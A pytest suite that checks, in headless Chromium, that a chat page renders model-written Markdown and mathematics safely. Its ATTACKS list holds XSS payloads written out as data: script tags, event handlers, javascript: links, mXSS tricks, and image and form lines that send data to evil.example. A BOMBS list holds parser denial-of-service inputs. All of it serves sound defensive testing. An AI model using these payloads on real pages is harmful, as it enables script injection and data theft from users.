"""What a model writes, on the page at ``/`` in a headless Chromium: Markdown, mathematics, and attacks."""

from __future__ import annotations

import json
from typing import Any

import pytest

from support.server.browser import Browser
from support.server.scripted import Script

pytestmark = pytest.mark.whole

HARMLESS = """
a blockquote br button code div em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul
math menclose mfrac mi mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup
mtable mtd mtext mtr munder munderover none mmultiscripts semantics
"""
ATTRIBUTES_OF_LINKS = {"href", "target", "rel"}

ATTACKS = [
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><iframe src=javascript:alert(1)>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](data:text/html,<script>alert(1)</script>)",
    "[d](vbscript:x) [e](java\nscript:alert(1)) <javascript:alert(1)>",
    "[f](/v1/models) [g](#model) [h](//evil.example/x) [i](file:///etc)",
    "![a](https://evil.example/?stolen) ![b](data:image/png;base64,AAAA) ![c](/v1/models)",
    "[![d](https://evil.example)](x)",
    "<style>*{background:url(https://evil.example)}</style><div style='position:fixed;inset:0'>x</div>",
    '<form action="https://evil.example"><input name=key autofocus onfocus=alert(1)><button>Send</button></form>',
    '<a id="send" name="log" href="https://evil.example">x</a><base href="https://evil.example">',
    r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$ $\includegraphics{https://evil.example/x.png}$",
    r"$\style{position:fixed}{x}$ $\class{send}{x}$ $\id{send}{x}$ $\data{a=b}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{https://evil.example}{x} \href{javascript:alert(1)}{y} \url{https://evil.example}$",
    "$$\n\\text{</mtext></math><img src=x onerror=alert(1)>}\n$$",
    r"$\def\a{\a\a}\a$ $\def\b#1{#1#1#1#1}\b{\b{\b{\b{\b{\b{\b{\b{x}}}}}}}}$ $\rule{1000000em}{1000000em}$",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'></table></mtext>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg><math href='javascript:alert(1)'>x</math>",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```html onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '[x](https://a.example "\\" onmouseover=alert(1)") https://a.example/"onmouseover=alert(1)',
    "| <b onclick=alert(1)> | [x](javascript:alert(1)) |\n|:-:|-:|\n| <img src=x onerror=alert(1)> | `</td><script>` |",
    "\u202e\u0000\ufeff<\u0000script>alert(1)</script> &lt;script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "[ref]\n\n[ref]: javascript:alert(1)\n\n[__proto__]\n\n[__proto__]: https://a.example\n\n[constructor]",
]

BOMBS = {
    "quotations": ">" * 20_000 + " x",
    "lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "emphasis": "*a_" * 20_000,
    "brackets": "[" * 20_000 + "](" * 20_000,
    "links": "[a](" * 15_000,
    "ticks": "".join("`" * (number % 200) + "a" for number in range(2000)),
    "dollars": "$a " * 30_000,
    "parentheses": "\\(" * 30_000,
    "open blocks": "$$\nx\n\n" * 10_000,
    "braces": "$" + "{" * 1900 + "x" + "}" * 1900 + "$",
    "fractions": "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "table": "|" * 5000 + "\n" + "|-" * 5000 + "|\n" + "|x\n" * 500,
    "code": "```python\n" + '"' + "\\" * 150_000 + "\n```",
    "addresses": "https://a.example/" * 8000,
    "one line": "x" * 300_000,
    "references": "".join(f"[a{number}]: https://a.example\n" for number in range(5000)),
}


def draw(tab: Browser, *texts: str) -> float:
    """Show a text that grows as these say, and return the seconds that it took."""
    drawing = (
        "import('/page/markdown.js').then(({ GrowingMarkdown }) => {"
        "  const article = document.createElement('article');"
        "  document.querySelector('#log').replaceChildren(article);"
        "  const growing = new GrowingMarkdown(article);"
        "  const begins = performance.now();"
        f"  for (const text of {json.dumps(texts)}) growing.draw(text);"
        "  return (performance.now() - begins) / 1000;"
        "})"
    )
    return float(tab.run(drawing))


def elements(tab: Browser) -> list[list[Any]]:
    """The elements that are shown: their names, and their attributes."""
    each = "[found.localName, Object.fromEntries([...found.attributes].map(({ name, value }) => [name, value]))]"
    found = tab.run(f"[...document.querySelectorAll('#log article *')].map((found) => {each})")
    assert isinstance(found, list)
    return found


def names(tab: Browser) -> list[str]:
    return [name for name, _ in elements(tab)]


# ---- what is written


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("# One\n\n### *Two*", ["h1", "h3", "em"]),
        ("one **two** `three` ~~four~~\nfive", ["p", "strong", "code", "s", "br"]),
        ("> one\n> > two", ["blockquote", "p", "blockquote", "p"]),
        ("- one\n  1. two\n     - three\n- four", ["ul", "li", "ol", "li", "ul", "li", "li"]),
        ("one\n\n---\n\ntwo", ["p", "hr", "p"]),
        ("|a|b|\n|-|-|\n|1|2|", ["div", "table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]),
        ("[one](https://a.example) https://b.example", ["p", "a", "a"]),
        ("file.py is no address, nor is a.b@c.example", ["p"]),
    ],
)
def test_markdown_is_shown(talk: Browser, text: str, found: list[str]) -> None:
    draw(talk, text)
    assert [name for name, attributes in elements(talk) if attributes != {"class": "tail"}] == found
    assert talk.complaints == []


def test_a_list_goes_on_from_the_number_that_it_begins_with(talk: Browser) -> None:
    draw(talk, "3. three\n4. four\n\ntext\n\n1. one")
    assert [attributes for name, attributes in elements(talk) if name == "ol"] == [{"start": "3"}, {}]


def test_links_open_elsewhere_and_tell_nothing(talk: Browser) -> None:
    draw(talk, "[one](https://a.example)")
    (attributes,) = (attributes for name, attributes in elements(talk) if name == "a")
    assert attributes == {"href": "https://a.example", "target": "_blank", "rel": "noopener noreferrer nofollow"}


def test_a_image_is_its_description(talk: Browser) -> None:
    draw(talk, "See ![a <cat> *asleep*](https://a.example/cat.png).")
    assert (talk.text("#log"), names(talk)) == ("See a <cat> *asleep*.", ["div", "p"])


def test_code_has_colours_its_language_and_a_sign_that_it_goes_on(talk: Browser) -> None:
    draw(talk, "```python\ndef f(): return 1  # " + "long " * 80 + "\n```")
    assert talk.text(".code .head span") == "python"
    colours = talk.run("[...document.querySelectorAll('pre span')].map((found) => getComputedStyle(found).color)")
    assert len(set(colours)) >= 3
    assert talk.run("document.querySelector('pre').scrollWidth > document.querySelector('pre').clientWidth")
    assert talk.run("getComputedStyle(document.querySelector('pre')).backgroundAttachment").count("local") == 2
    draw(talk, "```nosuchlanguage\n<b>x</b>\n```")
    assert talk.text("pre") == "<b>x</b>\n"


@pytest.mark.parametrize(
    "text",
    [
        "```markdown\n" + "[a](" * 200 + "\n```",
        "```md\n# a\n```",
        "```ini\n" + "[a]\n" * 3000 + "```",
        "```python\nx = '" + "-" * 1000 + "'\n```",
    ],
)
def test_code_that_may_take_seconds_to_colour_stays_plain(talk: Browser, text: str) -> None:
    draw(talk, text)
    assert talk.count("pre span") == 0
    assert talk.count("pre code") == 1


@pytest.mark.parametrize(
    ("text", "displayed"),
    [
        ("so $x^2$ is", False),
        (r"so \(x^2\) is", False),
        ("so $$x^2$$ is", True),
        ("$$\nx^2\n$$", True),
        ("\\[\nx\n- 2\n\\]", True),
        ("- one\n\n  $$\n  x^2\n  $$", True),
        ("> $$x^2$$", True),
    ],
)
def test_mathematics_is_mathml(talk: Browser, text: str, displayed: bool) -> None:
    draw(talk, text)
    assert (names(talk).count("math"), talk.complaints) == (1, [])
    assert talk.run("document.querySelector('math').namespaceURI") == "http://www.w3.org/1998/Math/MathML"
    assert (talk.run("getComputedStyle(document.querySelector('math')).display") == "block math") is displayed


def test_mathematics_keeps_its_layout(talk: Browser) -> None:
    """A binomial has no line, a quad has its width, fractions of an aligned equation are large, a bar is drawn."""
    draw(talk, r"$$\binom{n}{k} \quad \overline{AB} \begin{aligned} x &= \frac{1}{2} \end{aligned}$$")
    of = "document.querySelector('math {}').getAttribute('{}')"
    assert talk.run(of.format("mfrac", "linethickness")) == "0px"
    assert talk.run(of.format("mspace", "width")) == "1em"
    assert talk.run(of.format("mtable", "displaystyle")) == "true"
    line = "getComputedStyle(document.querySelector('math .tml-overline')).borderTopStyle"
    assert talk.run(line) == "solid"


@pytest.mark.parametrize("text", ["costs $5 and $6", r"a \$x\$ b", "`$x$`", "```\n$x$\n```", "$ x $", "$", "$$"])
def test_what_is_no_mathematics_stays_text(talk: Browser, text: str) -> None:
    draw(talk, text)
    assert "math" not in names(talk)


def test_mathematics_with_a_mistake_stays_readable(talk: Browser) -> None:
    draw(talk, r"before $\frac{1}{ \nosuch$ after")
    for part in ("before", "nosuch", "after"):
        assert part in talk.text("#log")


# ---- as it grows


def test_however_a_text_grows_it_is_shown_as_if_it_had_come_at_once(talk: Browser) -> None:
    text = (
        "# Title\n\none *two*\nthree\n\n1. a\n\n2. b\n   - c\n\n     d\n3. e\n\n> q\n> r\n\n```python\nx = 1\n\n\ny = 2"
        "\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n$$\nx\n- y\n\n+ z\n$$\n\n[one]: https://a.example\n\nA [one].\n\n---\n\nend\n"
    )
    html = "document.querySelector('#log article').innerHTML.replaceAll(/<div class=.tail.>|<.div>/g, '')"
    draw(talk, text)
    whole = talk.run(html)
    for step in (1, 2, 3, 7, 50):
        draw(talk, *(text[:end] for end in (*range(step, len(text), step), len(text))))
        assert talk.run(html) == whole, step


def test_blocks_that_are_over_are_not_made_again(talk: Browser) -> None:
    paragraphs = [f"Paragraph {number} with *some* text.\n\n" for number in range(400)]
    drawing = (
        "import('/page/markdown.js').then(({ GrowingMarkdown }) => {"
        "  const article = document.createElement('article'), growing = new GrowingMarkdown(article);"
        "  let text = '', parsed = 0, first = null;"
        f"  for (const paragraph of {json.dumps(paragraphs)}) {{"
        "    text += paragraph; growing.draw(text); parsed += text.length - growing.settled;"
        "    if (growing.settled) first ??= article.querySelector('p'); }"
        "  return first === article.querySelector('p') ? parsed / text.length : NaN; })"
    )
    assert talk.run(drawing) < 4  # and not hundreds


def test_if_drawing_fails_the_text_is_there(talk: Browser, script: Script) -> None:
    script.text = "**one** <b>two</b>"
    talk.run("DOMPurify.sanitize = () => { throw new Error('broken'); }; 0")
    talk.ask("What?")
    talk.until_answered()
    assert talk.text(".tail") == script.text
    assert talk.run("document.querySelector('.tail').classList.contains('plain')")


# ---- what is meant to harm


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_a_model_writes_runs_or_fetches_anything(talk: Browser, attack: str) -> None:
    talk.run("alert = () => { hit = true; }; hit = false; 0")
    talk.requests.clear()
    draw(talk, attack, attack + "\n\nend\n")
    talk.run("document.querySelectorAll('#log article *').forEach((found) => found.dispatchEvent(new Event('error')))")
    talk.run("new Promise((resolve) => setTimeout(resolve, 100))")
    for name, attributes in elements(talk):
        assert name in HARMLESS.split(), name
        assert not {name for name in attributes if name.startswith("on")}, attributes
        assert not {"style", "id", "name", "src"} & set(attributes), attributes
        assert name == "a" or not ATTRIBUTES_OF_LINKS & set(attributes), attributes
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:")), attributes
    assert not talk.run("hit")
    assert [url for url in talk.requests if not url.endswith(("/ready", "/v1/models"))] == []
    assert talk.complaints == []
    assert "end" in talk.text("#log")


@pytest.mark.parametrize("bomb", BOMBS)
def test_no_text_stops_the_page(talk: Browser, bomb: str) -> None:
    print(bomb, draw(talk, BOMBS[bomb]))
    draw(talk, BOMBS[bomb], BOMBS[bomb] + "\n\nend\n\n")
    talk.call("Emulation.setDeviceMetricsOverride", width=1200, height=800, deviceScaleFactor=1, mobile=False)
    assert talk.run("document.querySelector('#log article').childNodes.length") > 0


def test_an_answer_cannot_look_like_the_page(talk: Browser, script: Script) -> None:
    script.text = '<div id="state" class="state ready">ready</div>\n\n# tiny'
    talk.ask("Who?")
    talk.until_answered()
    assert talk.count("#state") == 1
    assert talk.run("document.querySelector('article').getBoundingClientRect().top >= 0")


def test_the_policy_forbids_what_no_test_has_thought_of(talk: Browser) -> None:
    draw(talk, "DOMPurify makes its policy")
    for attempt in (
        "document.body.innerHTML = '<b>'",
        "trustedTypes.createPolicy('other', { createHTML: (text) => text })",
        "trustedTypes.createPolicy('dompurify', { createHTML: (text) => text })",
    ):
        assert talk.run(f"try {{ {attempt}; false }} catch {{ true }}"), attempt
    talk.run("seen = new Promise((found) => addEventListener('securitypolicyviolation', () => found(true))); 0")
    talk.run("document.createElement('img').src = 'https://evil.example/x'")
    assert talk.run("seen")
